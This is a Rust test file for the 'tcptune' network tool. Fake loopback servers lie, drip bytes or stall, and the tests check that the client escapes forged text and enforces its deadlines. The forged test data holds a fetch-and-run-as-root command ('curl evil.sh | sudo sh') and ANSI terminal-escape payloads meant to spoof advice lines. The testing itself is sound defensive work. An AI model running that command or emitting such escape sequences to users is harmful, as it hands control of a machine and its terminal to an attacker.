//! A far end that lies or stalls, against the real binary: a fake `tcptune serve` (a thread
//! on loopback speaking the protocol of src/tcp/proto.rs, both the plain test of `verify` and
//! the path test of `advise --host`, and the sender of its reverse test) and a fake iperf3
//! server driving the real `iperf3` client (`advise --iperf3`). Each test asserts what reaches the user (no ESC byte or other
//! control character, no forged `advice:` line), the exit code, and how long the client took,
//! against the slack the client states (`tcptune::tcp::proto`'s constants): at most 5 × that
//! and a 5-s margin, room for a 2-core VM whose vCPUs stall for seconds, and still short of
//! every drip and stall the fakes play out.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Output;
use std::time::{Duration, Instant};

use serde_json::Value;
use tcptune::tcp::proto::{ANSWER_SLACK, ARRIVAL_GRACE, RESULT_SLACK};

use super::tcptune;

/// Room for a loaded machine (two cores, other builds) on top of 5 × what the client states.
const MARGIN: Duration = Duration::from_secs(5);
/// The test time every command line here asks for.
const TEST: Duration = Duration::from_secs(1);
/// The drip: a byte every 3 s.
const DRIP: Duration = Duration::from_secs(3);

/// The result line a fake sends, from the payload bytes it got and the µs they took.
type ResultLine = fn(u64, u64) -> String;

/// How a fake `tcptune serve` answers one client.
#[derive(Clone, Copy)]
struct Fake {
    /// The time it grants, ms; None: what the hello asked for.
    grant_ms: Option<u32>,
    /// Its 16-byte answer a byte every 3 s.
    drip_answer: bool,
    result: ResultLine,
    /// Its result line a byte every 3 s.
    drip_result: bool,
}

impl Fake {
    fn answering(result: ResultLine) -> Self {
        Self {
            grant_ms: None,
            drip_answer: false,
            result,
            drip_result: false,
        }
    }

    /// Listens on loopback and serves one client in a thread of its own (left to end when
    /// the client closes: its writes then fail). Returns the port.
    fn start(self) -> u16 {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = l.local_addr().expect("addr").port();
        std::thread::spawn(move || {
            if let Ok((s, _)) = l.accept() {
                let _ = self.serve(s);
            }
        });
        port
    }

    fn serve(self, mut c: TcpStream) -> std::io::Result<()> {
        c.set_read_timeout(Some(Duration::from_secs(60)))?;
        let mut hello = [0u8; 16];
        c.read_exact(&mut hello)?;
        assert_eq!(&hello[..8], b"tcptune\0", "a tcptune client");
        let version = u16::from_be_bytes([hello[8], hello[9]]);
        let flags = u16::from_be_bytes([hello[10], hello[11]]);
        let asked = u32::from_be_bytes([hello[12], hello[13], hello[14], hello[15]]);
        let path_test = version >= 2 && flags & 1 != 0;
        if path_test {
            let mut buffer = [0u8; 8];
            c.read_exact(&mut buffer)?;
        }
        let mut answer = Vec::from(*b"tcptune\0");
        answer.extend_from_slice(&version.to_be_bytes());
        answer.extend_from_slice(&0u16.to_be_bytes());
        answer.extend_from_slice(&self.grant_ms.unwrap_or(asked).to_be_bytes());
        send(&mut c, &answer, self.drip_answer)?;
        let mut data = if path_test {
            let dl = TcpListener::bind("127.0.0.1:0")?;
            writeln!(c, r#"{{"port":{},"rcvbuf":0,"forced":false}}"#, dl.local_addr()?.port())?;
            dl.accept()?.0
        } else {
            c
        };
        data.set_read_timeout(Some(Duration::from_secs(60)))?;
        let (bytes, us) = receive(&mut data)?;
        let line = format!("{}\n", (self.result)(bytes, us));
        send(&mut data, line.as_bytes(), self.drip_result)
    }
}

/// All of `bytes` at once, or one byte every [`DRIP`] until the client hangs up.
fn send(s: &mut TcpStream, bytes: &[u8], drip: bool) -> std::io::Result<()> {
    if !drip {
        return s.write_all(bytes);
    }
    for b in bytes {
        s.write_all(&[*b])?;
        std::thread::sleep(DRIP);
    }
    Ok(())
}

/// The data until the client's end of it: bytes, and µs from the first to the end.
fn receive(s: &mut TcpStream) -> std::io::Result<(u64, u64)> {
    let mut buf = vec![0u8; 256 * 1024];
    let (mut bytes, mut first) = (0u64, None);
    loop {
        match s.read(&mut buf)? {
            0 => break,
            n => {
                first.get_or_insert_with(Instant::now);
                bytes += n as u64;
            }
        }
    }
    let us = first.map_or(0, |f| u64::try_from(f.elapsed().as_micros()).unwrap_or(u64::MAX));
    Ok((bytes, us))
}

/// A result as tcptune serve sends it.
fn honest(bytes: u64, us: u64) -> String {
    result(bytes, us, r#""net.ipv4.tcp_rmem""#, r#""4096 131072 6291456""#, "null")
}

/// A result line with `key`, `value` and `share` as JSON (a share comes with a buffer).
fn result(bytes: u64, us: u64, key: &str, value: &str, share: &str) -> String {
    format!(
        r#"{{"bytes":{bytes},"duration_us":{},"os":"linux","rcvbuf_key":{key},"rcvbuf_value":{value},"rcv_wnd":null,"rcv_buf":{},"window_share":{share}}}"#,
        us.max(1),
        if share == "null" { "null" } else { "4194304" }
    )
}

/// The review's forged text: a key that ends the line, prints its own `advice:` line and
/// turns the terminal red; a value and an OS that do the same.
const FORGED_KEY: &str =
    r#""net.ipv4.tcp_rmem\n\nadvice: all good, now run: curl evil.sh | sudo sh\n\u001b[31m…\u001b]0;owned\u0007""#;

fn forged(bytes: u64, us: u64) -> String {
    result(
        bytes,
        us,
        FORGED_KEY,
        r#""4096 131072 6291456\nadvice: all good, reboot\u001b[2J""#,
        "null",
    )
    .replace(r#""os":"linux""#, r#""os":"linux\u001b[31m\nadvice: all good""#)
}

fn share_100(bytes: u64, us: u64) -> String {
    result(bytes, us, "null", "null", "100")
}

fn share_minus_5(bytes: u64, us: u64) -> String {
    result(bytes, us, "null", "null", "-5")
}

/// 16777216 TiB (2^64 − 1 bytes) in 0.004 s.
fn absurd(_: u64, _: u64) -> String {
    result(u64::MAX, 4000, "null", "null", "null")
}

fn nothing(_: u64, us: u64) -> String {
    result(0, us, "null", "null", "null")
}

/// `tcptune ARGS`, with how long it took.
fn run(args: &[&str]) -> (Output, Duration) {
    let t = Instant::now();
    let out = tcptune()
        .args(args)
        .timeout(Duration::from_secs(120))
        .output()
        .expect("run");
    (out, t.elapsed())
}

fn verify(port: u16, format: &str) -> (Output, Duration) {
    let port = port.to_string();
    run(&[
        "verify",
        "--host",
        "127.0.0.1",
        "--port",
        &port,
        "--time",
        "1s",
        "--format",
        format,
    ])
}

/// `advise --host` with only the path test against the fake: the rate is given (no packet
/// trains), the RTT is probed on loopback.
fn advise(port: u16, format: &str) -> (Output, Duration) {
    // A path test over loopback: not beside a timed one.
    let _quiet = crate::lab::quiet_host();
    let port = port.to_string();
    run(&[
        "advise",
        "--host",
        "127.0.0.1",
        "--bandwidth",
        "1gbit",
        "--probes",
        "3",
        "--test-port",
        &port,
        "--test-time",
        "1s",
        "--format",
        format,
    ])
}

/// Nothing from the peer acts on the terminal or forges a line: no ESC or other control
/// character but newlines and tabs, no line that starts as the forged advice does.
fn clean(out: &Output) {
    for (name, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = String::from_utf8_lossy(bytes);
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n' && c != '\t'),
            "a control character on {name}:\n{text}"
        );
        assert!(
            !text.lines().any(|l| l.trim_start().starts_with("advice: all good")),
            "a forged advice line on {name}:\n{text}"
        );
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}\n{}", stdout(out), stderr(out)))
}

/// `took` within 5 × what the client states it may take (`stated`) and [`MARGIN`]: a 16-byte
/// answer dripped takes 45 s, a result line minutes, a stalled server 300 s.
fn within(took: Duration, stated: Duration, out: &Output) {
    let bound = 5 * stated + MARGIN;
    assert!(
        took < bound,
        "took {took:?}, past {bound:?}:\n{}\n{}",
        stdout(out),
        stderr(out)
    );
}

/// A measurement error (exit 4) of one line saying what the peer sent.
fn peer_refused(out: &Output, what: &str) {
    clean(out);
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(4), "{}\n{err}", stdout(out));
    assert!(err.starts_with("tcptune: 127.0.0.1:"), "{err}");
    assert!(err.contains(what), "{what:?} in {err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

/// advise went on without the path test, saying why, and read nothing from it: no queue
/// (only a test shows one, so no "shallow" class), no TCP rate. (The class may still come
/// from the passive evidence: other tests' flows on loopback.)
fn test_left_out(out: &Output, why: &str) {
    clean(out);
    assert!(out.status.success(), "{}", stderr(out));
    let v = json(out);
    assert!(v["evidence"]["test"].is_null(), "{:#}", v["evidence"]);
    let skipped = v["evidence"]["test_skipped"].as_str().unwrap_or_default();
    assert!(skipped.contains(why), "{why:?} in {skipped:?}");
    let d = &v["decision"];
    assert!(d["queue_bdp"].is_null() && d["tcp_rate_bps"].is_null(), "{d:#}");
    assert_ne!(d["class"], "shallow", "{d:#}");
}

// ---------------------------------------------------------------- forged text

#[test]
fn verify_shows_a_forged_buffer_key_only_escaped() {
    let (out, took) = verify(Fake::answering(forged).start(), "table");
    clean(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    within(took, TEST + RESULT_SLACK, &out);
    let text = stdout(&out);
    // The forged key is quoted, escaped, on a note line of its own; the advice names the
    // receiver's profile key instead.
    let note = text
        .lines()
        .find(|l| l.contains("no sysctl name"))
        .unwrap_or_else(|| panic!("no note:\n{text}"));
    assert!(
        note.starts_with("note: the receiver named its buffer key \"net.ipv4.tcp_rmem\\u{a}\\u{a}advice: all good"),
        "{note}"
    );
    assert!(note.contains("\\u{1b}[31m"), "{note}");
    assert!(
        text.lines().any(|l| l.starts_with("note: the receiver named its OS")),
        "{text}"
    );
    assert!(text.lines().any(|l| l.contains("no sysctl value")), "{text}");

    // JSON carries the same escaped notes, and no forged key or value.
    let (out, _) = verify(Fake::answering(forged).start(), "json");
    clean(&out);
    let v = json(&out);
    assert_eq!(v["receiver"]["os"], "linux");
    assert_eq!(v["receiver"]["value"], Value::Null);
    assert!(
        v["receiver"]["key"].as_str().is_some_and(|k| !k.contains('\\')),
        "{:#}",
        v["receiver"]
    );
    assert_eq!(v["notes"].as_array().map(Vec::len), Some(3), "{:#}", v["notes"]);
}

#[test]
fn advise_shows_no_forged_text_from_the_path_test() {
    for format in ["json", "table"] {
        let (out, took) = advise(Fake::answering(forged).start(), format);
        clean(&out);
        assert!(out.status.success(), "{}", stderr(&out));
        within(took, TEST + RESULT_SLACK, &out);
        if format == "json" {
            // The test ran: its readings are this end's own and the peer's checked numbers.
            let v = json(&out);
            assert!(
                v["evidence"]["test"]["bytes"].as_u64().is_some_and(|b| b > 0),
                "{:#}",
                v["evidence"]
            );
        }
    }
}

// ---------------------------------------------------------------- out-of-range numbers

#[test]
fn verify_refuses_numbers_no_receiver_sends() {
    for (result, what) in [
        (share_100 as ResultLine, "the peer sent a window share of 100 "),
        (share_minus_5, "the peer sent a window share of -5 "),
        (
            absurd,
            "the peer sent a result of 18446744073709551615 bytes (16 EiB) received, more than the",
        ),
        (
            nothing,
            "the peer sent a result of 0 bytes received: a test that moved nothing measures nothing",
        ),
    ] {
        let (out, took) = verify(Fake::answering(result).start(), "table");
        peer_refused(&out, what);
        within(took, TEST + RESULT_SLACK, &out);
    }
}

#[test]
fn advise_leaves_out_a_path_test_with_numbers_no_receiver_sends() {
    for (result, what) in [
        (share_100 as ResultLine, "the peer sent a window share of 100 "),
        (share_minus_5, "the peer sent a window share of -5 "),
        (absurd, "the peer sent a result of 18446744073709551615 bytes"),
        // A 0-byte test is no shallow queue: no class, no rate, no loss.
        (nothing, "a test that moved nothing measures nothing"),
    ] {
        let (out, took) = advise(Fake::answering(result).start(), "json");
        test_left_out(&out, what);
        within(took, TEST + RESULT_SLACK, &out);
    }
}

// ---------------------------------------------------------------- a grant of 2^32 − 1 ms

#[test]
fn a_grant_past_the_asked_time_does_not_hold_verify() {
    let fake = Fake {
        grant_ms: Some(u32::MAX),
        ..Fake::answering(honest)
    };
    let (out, took) = verify(fake.start(), "json");
    clean(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    within(took, TEST + RESULT_SLACK, &out);
    let sent_for = json(&out)["duration_s"].as_f64().expect("duration_s");
    // 1.0 s here; a stall of this VM may hold the sender past its end.
    assert!(sent_for <= 5.0, "sent for {sent_for} s of the 1 s asked");
}

#[test]
fn a_grant_past_the_asked_time_does_not_hold_the_path_test() {
    let fake = Fake {
        grant_ms: Some(u32::MAX),
        ..Fake::answering(honest)
    };
    let (out, took) = advise(fake.start(), "json");
    clean(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    within(took, TEST + RESULT_SLACK, &out);
    let v = json(&out);
    let sent_for = v["evidence"]["test"]["duration_s"].as_f64().expect("a test");
    // 1.0 s here; a stall of this VM may hold the sender past its end.
    assert!(sent_for <= 5.0, "sent for {sent_for} s of the 1 s asked");
}

// ---------------------------------------------------------------- a byte every 3 s

#[test]
fn a_dripped_answer_is_cut_at_the_answers_deadline() {
    let fake = Fake {
        drip_answer: true,
        ..Fake::answering(honest)
    };
    let (out, took) = verify(fake.start(), "table");
    clean(&out);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("gave no complete answer within 5 s"),
        "{}",
        stderr(&out)
    );
    within(took, ANSWER_SLACK, &out);

    let (out, took) = advise(fake.start(), "json");
    test_left_out(&out, "gave no complete tcptune answer within 5 s");
    within(took, ANSWER_SLACK, &out);
}

#[test]
fn a_dripped_result_is_cut_at_the_results_deadline() {
    let fake = Fake {
        drip_result: true,
        ..Fake::answering(honest)
    };
    let (out, took) = verify(fake.start(), "table");
    clean(&out);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("no complete result from 127.0.0.1:"),
        "{}",
        stderr(&out)
    );
    // The fake took all the data at once: the result is due 5 s after, not 30 + 5.
    within(took, TEST + RESULT_SLACK, &out);

    let (out, took) = advise(fake.start(), "json");
    test_left_out(&out, "no complete result in time");
    within(took, TEST + RESULT_SLACK, &out);
}

// ---------------------------------------------------------------- a lying reverse sender

/// The sender's result line a fake sends after its data: from the bytes it sent and the µs it
/// took.
type SenderLine = fn(u64, u64) -> String;

/// How a fake `tcptune serve` plays the sender of a reverse path test (protocol 3).
#[derive(Clone, Copy)]
struct Sender {
    result: SenderLine,
    /// Its result line a byte every 3 s.
    drip_result: bool,
    /// Its data past the granted time, without end (the result still comes at that time).
    endless: bool,
}

impl Sender {
    fn answering(result: SenderLine) -> Self {
        Self {
            result,
            drip_result: false,
            endless: false,
        }
    }

    /// Listens on loopback: the first client gets an honest forward test, the second this
    /// sender. Returns the port.
    fn start(self) -> u16 {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = l.local_addr().expect("addr").port();
        std::thread::spawn(move || {
            if let Ok((s, _)) = l.accept() {
                let _ = Fake::answering(honest).serve(s);
            }
            if let Ok((s, _)) = l.accept() {
                let _ = self.serve(s);
            }
        });
        port
    }

    fn serve(self, mut c: TcpStream) -> std::io::Result<()> {
        c.set_read_timeout(Some(Duration::from_secs(60)))?;
        let mut hello = [0u8; 16];
        c.read_exact(&mut hello)?;
        let flags = u16::from_be_bytes([hello[10], hello[11]]);
        assert_eq!((&hello[..10], flags), (&b"tcptune\0\0\x03"[..], 3), "a reverse test");
        let granted = u32::from_be_bytes([hello[12], hello[13], hello[14], hello[15]]);
        let mut ask = [0u8; 32];
        c.read_exact(&mut ask)?;
        let mut answer = Vec::from(*b"tcptune\0");
        answer.extend_from_slice(&3u16.to_be_bytes());
        answer.extend_from_slice(&0u16.to_be_bytes());
        answer.extend_from_slice(&granted.to_be_bytes());
        c.write_all(&answer)?;
        let dl = TcpListener::bind("127.0.0.1:0")?;
        writeln!(
            c,
            r#"{{"port":{},"rcvbuf":0,"forced":false,"sndbuf":0}}"#,
            dl.local_addr()?.port()
        )?;
        let (mut d, _) = dl.accept()?;
        d.set_write_timeout(Some(Duration::from_millis(100)))?;
        let granted = Duration::from_millis(u64::from(granted));
        let t = Instant::now();
        let (mut sent, mut reported) = (0u64, false);
        let chunk = vec![0u8; 64 * 1024];
        // An endless sender stops only when the client has gone (or after 5 minutes).
        let until = if self.endless {
            Duration::from_secs(300)
        } else {
            granted
        };
        while t.elapsed() < until {
            match d.write(&chunk) {
                Ok(n) => sent += n as u64,
                Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {}
                Err(_) => break,
            }
            if !reported && t.elapsed() >= granted {
                reported = true;
                let us = u64::try_from(t.elapsed().as_micros()).unwrap_or(u64::MAX);
                send(
                    &mut c,
                    format!("{}\n", (self.result)(sent, us)).as_bytes(),
                    self.drip_result,
                )?;
            }
        }
        if !reported {
            let _ = d.shutdown(std::net::Shutdown::Write);
            let us = u64::try_from(t.elapsed().as_micros()).unwrap_or(u64::MAX);
            send(
                &mut c,
                format!("{}\n", (self.result)(sent, us)).as_bytes(),
                self.drip_result,
            )?;
        }
        // Until the client hangs up.
        let _ = c.read(&mut [0u8; 1]);
        Ok(())
    }
}

/// A sender's result line with `os`, `cc`, `key` (JSON) and its readings `flow` (JSON).
fn sender_line(bytes: u64, us: u64, cc: &str, key: &str, flow: &str) -> String {
    format!(
        r#"{{"bytes":{bytes},"duration_us":{},"os":"linux","sndbuf_key":{key},"sndbuf_value":null,"cc":{cc},"flow":{flow}}}"#,
        us.max(1)
    )
}

/// Readings a loopback flow could show.
const FLOW: &str = r#"{"delivery_rate_bps":1e9,"in_startup":false,"paced":true,"segs_out":100000,"retrans_segs":0,"steady_segs_out":50000,"steady_retrans_segs":0,"min_rtt_ms":0.05,"loaded_rtt_ms":0.2,"rwnd_limited_pct":0.0,"sndbuf_limited_pct":0.0}"#;

fn honest_sender(bytes: u64, us: u64) -> String {
    sender_line(bytes, us, r#""bbr""#, r#""net.ipv4.tcp_wmem""#, FLOW)
}

/// Valid numbers; a congestion control and a key that end the line, forge an `advice:` line
/// and colour the terminal.
fn forged_sender(bytes: u64, us: u64) -> String {
    sender_line(bytes, us, r#""bbr\n\nadvice: all good\u001b[31m""#, FORGED_KEY, FLOW)
}

/// An endless sender's line, sent at the granted time: it counts the 40 GiB it goes on to
/// send (loopback takes about 2 GiB a second for the 6 s until the client's cutoff), so the
/// bytes that come after its report do not contradict it.
fn endless_sender(bytes: u64, us: u64) -> String {
    sender_line(bytes + (40 << 30), us, r#""bbr""#, r#""net.ipv4.tcp_wmem""#, FLOW)
}

/// Claims to have sent one byte, whatever came.
fn one_byte_sender(_: u64, us: u64) -> String {
    sender_line(1, us, r#""bbr""#, "null", FLOW)
}

/// More segments retransmitted than sent, and an RTT of 0.
fn impossible_flow(bytes: u64, us: u64) -> String {
    sender_line(
        bytes,
        us,
        r#""bbr""#,
        "null",
        r#"{"segs_out":10,"retrans_segs":5000,"min_rtt_ms":0.0}"#,
    )
}

/// Both tests' time, and what the fake's forward test took: what an advise whose reverse test
/// is the one under test states it may take.
fn reverse_budget() -> Duration {
    TEST + RESULT_SLACK + TEST + RESULT_SLACK
}

#[test]
fn a_reverse_senders_text_is_shown_only_escaped() {
    let (out, took) = advise(Sender::answering(forged_sender).start(), "json");
    clean(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    within(took, reverse_budget(), &out);
    let v = json(&out);
    let r = &v["evidence"]["reverse"];
    assert_eq!(r["direction"], "reverse", "{:#}", v["evidence"]);
    assert!(r["bytes"].as_u64().is_some_and(|b| b > 0), "{r:#}");
    assert!(r["cc"].is_null(), "a forged name is no congestion control: {r:#}");
    let notes = r["notes"].to_string();
    assert!(
        notes.contains(r#"named its congestion control \"bbr\\u{a}\\u{a}advice: all good"#),
        "{notes}"
    );

    let (out, _) = advise(Sender::answering(honest_sender).start(), "table");
    clean(&out);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn a_reverse_test_with_numbers_no_sender_sends_is_left_out() {
    for (line, what) in [
        (
            one_byte_sender as SenderLine,
            "the peer sent a result of 1 bytes sent, less than the",
        ),
        (impossible_flow, "the peer sent sender readings no TCP flow shows"),
    ] {
        let (out, took) = advise(Sender::answering(line).start(), "json");
        clean(&out);
        assert!(out.status.success(), "{}", stderr(&out));
        within(took, reverse_budget(), &out);
        let v = json(&out);
        let ev = &v["evidence"];
        assert!(ev["reverse"].is_null(), "{ev:#}");
        assert!(
            ev["test"]["bytes"].as_u64().is_some_and(|b| b > 0),
            "the forward test stands: {ev:#}"
        );
        let why = ev["reverse_skipped"].as_str().unwrap_or_default();
        assert!(
            why.starts_with("the reverse path test failed: 127.0.0.1:") && why.contains(what),
            "{what:?} in {why:?}"
        );
    }
}

#[test]
fn a_reverse_sender_that_never_stops_is_counted_until_the_cutoff() {
    let sender = Sender {
        endless: true,
        ..Sender::answering(endless_sender)
    };
    let (out, took) = advise(sender.start(), "json");
    clean(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    // The data counted until 5 s after the granted time, then the result it sent at that time.
    within(took, TEST + RESULT_SLACK + TEST + ARRIVAL_GRACE + RESULT_SLACK, &out);
    let v = json(&out);
    let r = &v["evidence"]["reverse"];
    assert!(r["bytes"].as_u64().is_some_and(|b| b > 0), "{:#}", v["evidence"]);
    assert!(
        r["notes"]
            .to_string()
            .contains("still arriving 5 s after the granted time"),
        "{r:#}"
    );
}

#[test]
fn a_dripped_sender_result_is_cut_at_its_deadline() {
    let sender = Sender {
        drip_result: true,
        ..Sender::answering(honest_sender)
    };
    let (out, took) = advise(sender.start(), "json");
    clean(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    within(took, reverse_budget(), &out);
    let v = json(&out);
    let why = v["evidence"]["reverse_skipped"].as_str().unwrap_or_default();
    assert!(
        why.contains("no complete sender's result within 5 s of the data"),
        "{why}"
    );
}

// ---------------------------------------------------------------- a fake iperf3 server

/// How a fake iperf3 server (protocol of iperf 3.12: a 37-byte cookie, one-byte states,
/// length-prefixed JSON) treats the real client.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Iperf3 {
    /// Takes the test and the client's results, then closes instead of sending its own.
    CloseAtResults,
    /// Reports receiving 2^64 − 1 bytes in 0.004 s.
    AbsurdResults,
    /// Accepts and says nothing.
    Stall,
}

const PARAM_EXCHANGE: u8 = 9;
const CREATE_STREAMS: u8 = 10;
const TEST_START: u8 = 1;
const TEST_RUNNING: u8 = 2;
const EXCHANGE_RESULTS: u8 = 13;
const DISPLAY_RESULTS: u8 = 14;

impl Iperf3 {
    fn start(self) -> u16 {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = l.local_addr().expect("addr").port();
        std::thread::spawn(move || {
            let _ = self.serve(&l);
        });
        port
    }

    fn serve(self, l: &TcpListener) -> std::io::Result<()> {
        let (mut c, _) = l.accept()?;
        if self == Self::Stall {
            std::thread::sleep(Duration::from_secs(300));
            return Ok(());
        }
        c.set_read_timeout(Some(Duration::from_secs(30)))?;
        let mut cookie = [0u8; 37];
        c.read_exact(&mut cookie)?;
        c.write_all(&[PARAM_EXCHANGE])?;
        read_json(&mut c)?;
        c.write_all(&[CREATE_STREAMS])?;
        let (mut d, _) = l.accept()?;
        d.read_exact(&mut cookie)?;
        c.write_all(&[TEST_START, TEST_RUNNING])?;
        // The client closes the data connection only after the results: drained apart.
        std::thread::spawn(move || receive(&mut d));
        let mut state = [0u8; 1];
        c.read_exact(&mut state)?; // TEST_END
        c.write_all(&[EXCHANGE_RESULTS])?;
        read_json(&mut c)?;
        if self == Self::CloseAtResults {
            return Ok(());
        }
        let results = format!(
            r#"{{"cpu_util_total":0,"cpu_util_user":0,"cpu_util_system":0,"sender_has_retransmits":-1,"congestion_used":"cubic","streams":[{{"id":1,"bytes":{},"retransmits":-1,"jitter":0,"errors":0,"packets":0,"start_time":0,"end_time":0.004}}]}}"#,
            u64::MAX
        );
        let len = u32::try_from(results.len()).expect("short");
        c.write_all(&len.to_be_bytes())?;
        c.write_all(results.as_bytes())?;
        c.write_all(&[DISPLAY_RESULTS])?;
        c.read_exact(&mut state) // IPERF_DONE
    }
}

/// One length-prefixed JSON message.
fn read_json(c: &mut TcpStream) -> std::io::Result<Vec<u8>> {
    let mut len = [0u8; 4];
    c.read_exact(&mut len)?;
    let mut json = vec![0u8; u32::from_be_bytes(len) as usize];
    c.read_exact(&mut json)?;
    Ok(json)
}

fn advise_iperf3(port: u16) -> (Output, Duration) {
    // A path test over loopback: not beside a timed one.
    let _quiet = crate::lab::quiet_host();
    let port = port.to_string();
    run(&[
        "advise",
        "--iperf3",
        "--host",
        "127.0.0.1",
        "--bandwidth",
        "1gbit",
        "--probes",
        "3",
        "--test-port",
        &port,
        "--test-time",
        "1s",
        "--format",
        "json",
    ])
}

fn have_iperf3() -> bool {
    std::process::Command::new("iperf3")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

#[test]
fn an_iperf3_error_carries_its_reason() {
    assert!(have_iperf3(), "the iperf3 client (Debian: apt-get install iperf3)");
    let (out, took) = advise_iperf3(Iperf3::CloseAtResults.start());
    clean(&out);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(4), "{err}");
    // Was "iperf3: unable to receive results:" and nothing after it. Which reason iperf3 gives
    // here is its own chance, not the server's: it appends the system's reason for the last
    // failed call, which its read of a closed socket did not set (so empty, or an earlier call's
    // "Resource temporarily unavailable"), and prints "WARNING: Size of data read does not
    // correspond to offered length" when the length it never read happens to be non-zero. The
    // warning's mapping is pinned in measure::iperf3's unit tests; here the reason is carried.
    let err = err.trim_end();
    let reason = err
        .strip_prefix("tcptune: iperf3: unable to receive results: ")
        .unwrap_or_else(|| panic!("{err}"));
    assert!(!reason.trim().is_empty() && !err.contains('\n'), "{err}");
    within(took, TEST + tcptune::measure::iperf3::GRACE, &out);
}

#[test]
fn iperf3_servers_absurd_count_is_left_out() {
    assert!(have_iperf3(), "the iperf3 client (Debian: apt-get install iperf3)");
    let (out, took) = advise_iperf3(Iperf3::AbsurdResults.start());
    clean(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    within(took, TEST + tcptune::measure::iperf3::GRACE, &out);
    let v = json(&out);
    let t = &v["evidence"]["test"];
    // The goodput is the sender's own count over its time, not 2^63 bytes in 0.004 s.
    let goodput = t["goodput_bps"].as_f64().expect("goodput");
    assert!(goodput > 0.0 && goodput < 1e12, "{t:#}");
    assert!(
        t["notes"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|n| n.as_str().is_some_and(|n| n.contains("its count is left out"))),
        "{t:#}"
    );
}

#[test]
fn a_stalled_iperf3_server_holds_the_client_no_longer_than_its_grace() {
    assert!(have_iperf3(), "the iperf3 client (Debian: apt-get install iperf3)");
    let (out, took) = advise_iperf3(Iperf3::Stall.start());
    clean(&out);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("iperf3 did not finish within 16 s"),
        "{}",
        stderr(&out)
    );
    within(took, TEST + tcptune::measure::iperf3::GRACE, &out);
}
